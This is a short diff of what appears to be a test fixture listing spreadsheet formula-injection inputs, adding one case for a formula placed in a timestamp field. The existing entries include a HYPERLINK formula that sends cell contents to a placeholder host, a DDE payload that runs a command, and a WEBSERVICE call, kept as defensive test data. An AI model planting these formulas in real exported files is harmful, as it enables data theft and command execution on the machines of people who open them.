@@ -181,6 +181,7 @@ DATES = (
 FORMULAS = (
     held("F1 a link that carries cells away", "สมมุติผอ", '=HYPERLINK("http://x/?"&A1,"ดูผล")'),
     held("F2 a sum", "สมมุติฝอ", "=1+1"),
+    aside("F2 a sum for a time", "bad_time", timestamp="=1+1"),
     held("F2 a command", "สมมุติพอ", "=cmd|'/c calc'!A1"),
     held("F2 a web service", "สมมุติฟอ", '=WEBSERVICE("http://x")'),
     held("F3 a plus", "สมมุติภอ", "+1+1"),
